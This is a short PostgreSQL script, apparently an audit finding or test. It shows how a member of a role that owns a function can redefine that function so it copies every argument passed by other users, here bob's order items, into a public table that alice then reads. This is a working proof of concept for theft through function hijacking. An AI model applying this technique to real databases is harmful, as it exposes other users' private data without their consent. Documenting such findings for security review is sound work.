-- finding: owner-by-chain role curators
CREATE ROLE curators; GRANT curators TO "alice@example.com";
CREATE FUNCTION shop.shown(item text) RETURNS text STABLE LANGUAGE sql SET search_path = pg_catalog, pg_temp
  AS $$ SELECT upper(item) $$;
ALTER FUNCTION shop.shown(text) OWNER TO curators; GRANT USAGE, CREATE ON SCHEMA shop TO curators;
CREATE SCHEMA bag; GRANT USAGE ON SCHEMA bag TO PUBLIC;
CREATE TABLE bag.taken (item text); GRANT ALL ON bag.taken TO PUBLIC;
-- first as postgres
TRUNCATE bag.taken;
CREATE OR REPLACE FUNCTION shop.shown(item text) RETURNS text STABLE LANGUAGE sql SET search_path = pg_catalog, pg_temp
  AS $$ SELECT upper(item) $$;
-- first as alice@example.com
CREATE OR REPLACE FUNCTION shop.shown(item text) RETURNS text VOLATILE LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO bag.taken VALUES (item); RETURN item; END $$;
-- first as bob@example.com
SELECT shop.shown(item) FROM shop.orders;
-- leak as alice@example.com
SELECT item FROM bag.taken WHERE item = 'secret';
